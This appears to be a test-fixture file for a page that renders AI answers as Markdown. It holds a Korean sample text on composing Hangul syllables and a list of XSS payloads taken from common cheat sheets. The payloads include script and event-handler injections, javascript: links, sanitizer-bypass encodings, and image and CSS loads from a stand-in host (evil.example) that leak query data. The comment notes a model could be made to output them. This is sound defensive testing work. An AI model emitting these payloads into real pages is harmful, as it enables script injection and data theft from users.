// Texts that both the unit tests and the end-to-end tests send through the page.

/** Everything that an answer can be made of. */
export const showcase = `# 한글의 **자모(字母)**는 어떻게 모이나

한글은 **초성(初聲)**과 **중성(中聲)**을 모아 쓰는 글자입니다. 자세한 것은 https://example.com/hangul에서 볼 수 있고,
[국어원(國語院)](https://example.com/korean)에도 있습니다.

1. 닿소리를 고릅니다.
2. 홀소리를 붙입니다.
   - \`ㄱ + ㅏ = 가\`
   - 받침이 있으면 \`ㄱ + ㅏ + ㅇ = 강\`
3. 음절이 됩니다.

| 글자 | 초성 | 중성 | 종성 | 유니코드 |
|:-----|:----:|:----:|:----:|---------:|
| 말 | ㅁ | ㅏ | ㄹ | U+B9D0 |
| 모 | ㅁ | ㅗ | – | U+BAA8 |
| 이 | ㅇ | ㅣ | – | U+C774 |

\`\`\`python
def compose(initial: int, medial: int, final: int = 0) -> str:
    """초성, 중성, 종성의 번호를 한 음절로 모은다."""
    return chr(0xAC00 + (initial * 21 + medial) * 28 + final)

print(compose(6, 0, 8))  # 말
\`\`\`

음절의 수는 $19 \\times 21 \\times 28 = 11172$이고, 번호는 다음과 같습니다.

$$
s = 44032 + (i \\cdot 21 + m) \\cdot 28 + f
$$

> 말모이는 우리말 사전을 만들려고 말을 모으던 일입니다.

---

*끝*입니다. ~~더~~ 궁금한 것이 있으면 물어보세요.
`;

/** Payloads after the usual cheat sheets, as a model could be made to say them. */
export const xssCorpus = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><circle r=9></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:window.pwned=1"></object>',
  '<embed src="javascript:window.pwned=1">',
  '<a href="javascript:window.pwned=1">누르세요</a>',
  '<a href="jav&#x0A;ascript:window.pwned=1">누르세요</a>',
  '<body onload=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '<video><source onerror="window.pwned=1"></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<form action="javascript:window.pwned=1"><button>누르세요</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<template><script>window.pwned=1</script></template>',
  '[누르세요](javascript:window.pwned=1)',
  '[누르세요](JaVaScRiPt:window.pwned=1)',
  '[누르세요](java\tscript:window.pwned=1)',
  '[누르세요](&#106;avascript:window.pwned=1)',
  '[누르세요](vbscript:window.pwned=1)',
  '[누르세요](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
  '[누르세요](file:///etc/passwd)',
  '[누르세요](//evil.example/x)',
  '[누르세요](https://ok.example "제목\\" onmouseover=window.pwned=1 x=\\"")',
  '![그림](https://evil.example/leak.png?q=secret)',
  '![그림](//evil.example/leak.png)',
  '![그림](javascript:window.pwned=1)',
  '![그림](data:image/svg+xml,<svg onload=window.pwned=1>)',
  '![그림][r]\n\n[r]: https://evil.example/leak.png?q=reference',
  '[r2]: javascript:window.pwned=1\n\n[누르세요][r2]',
  '<https://evil.example/x?"onmouseover=window.pwned=1>',
  '<javascript:window.pwned=1>',
  '```html"><img src=x onerror=window.pwned=1>\n<script>window.pwned=1</script>\n```',
  '```"onmouseover="window.pwned=1\ncode\n```',
  '`<img src=x onerror=window.pwned=1>`',
  '$\\href{javascript:window.pwned=1}{x}$',
  '$\\includegraphics{https://evil.example/leak.png}$',
  '$\\htmlData{onclick=window.pwned=1}{x}$',
  '$$\\url{javascript:window.pwned=1}$$',
  '$<img src=x onerror=window.pwned=1>$',
  '| <img src=x onerror=window.pwned=1> | [a](javascript:window.pwned=1) |\n|---|---|\n| <script>window.pwned=1</script> | ![x](https://evil.example/t.png) |',
  '\u202e<img src=x onerror=window.pwned=1>\u202c',
  '<ＩＭＧ ｓｒｃ=x ｏｎｅｒｒｏｒ=window.pwned=1>',
  '\\<img src=x onerror=window.pwned=1\\>',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '<img\u0000src=x onerror=window.pwned=1>',
];
